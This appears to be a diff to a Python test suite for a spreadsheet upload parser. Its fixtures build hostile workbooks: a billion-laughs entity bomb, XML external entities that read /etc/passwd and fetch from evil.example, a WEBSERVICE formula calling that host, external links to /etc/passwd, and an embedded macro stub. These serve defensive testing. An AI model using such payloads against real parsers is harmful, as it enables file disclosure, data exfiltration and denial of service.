@@ -60,7 +60,7 @@ def sheet_row(number: int | str, cells: Iterable[object]) -> str:
 _HEAD_ROW = sheet_row(1, HEAD)
 _GOOD_ROW = sheet_row(2, ["handed", "x1", "p0", DAY, "Hello"])
 _LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
-OUTSIDE = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY f SYSTEM 'https://evil.example/e'>]>"
+OUTSIDE = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:/etc/passwd'><!ENTITY f SYSTEM 'https://evil.example/e'>]>"
 
 
 def _entity(name: str) -> str:
@@ -91,7 +91,7 @@ _BOOKS: dict[str, tuple[Callable[[], bytes] | bytes, End]] = {
     "a number of 5000 digits": (lambda: workbook(_HEAD_ROW + f'<row r="2"><c><v>{"9" * 5000}</v></c></row>'), End.REFUSED),
     "times without end": (lambda: workbook(_HEAD_ROW + '<row r="2"><c t="inlineStr"><is><t>handed</t></is></c><c><v>1e308</v></c><c t="d"><v>9999-99-99</v></c><c t="e"><v>#REF!</v></c></row>'), End.REFUSED),
     "a formula that fetches": (lambda: workbook(_HEAD_ROW + '<row r="2"><c t="str"><f>WEBSERVICE("https://evil.example/x")</f><v>handed</v></c><c t="inlineStr"><is><t>f1</t></is></c><c t="inlineStr"><is><t>p0</t></is></c><c t="inlineStr"><is><t>2026-05-06</t></is></c></row>'), End.TAKEN),
-    "links to other books": (lambda: workbook(_HEAD_ROW + _GOOD_ROW, more={"xl/externalLinks/externalLink1.xml": OUTSIDE.encode() + b"<externalLink/>", "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'}), End.TAKEN),
+    "links to other books": (lambda: workbook(_HEAD_ROW + _GOOD_ROW, more={"xl/externalLinks/externalLink1.xml": OUTSIDE.encode() + b"<externalLink/>", "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x" Target="file:/etc/passwd" TargetMode="External"/></Relationships>'}), End.TAKEN),
     "a program in it": (lambda: workbook(_HEAD_ROW + _GOOD_ROW, more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500)}), End.TAKEN),
     "every harmful text": (lambda: workbook(_HEAD_ROW + "".join(sheet_row(n, ["handed", f"s{n}", "p0", DAY, text]) for n, text in enumerate(TEXTS.values(), 2) if text.isprintable())), End.TAKEN),
 }  # fmt: skip
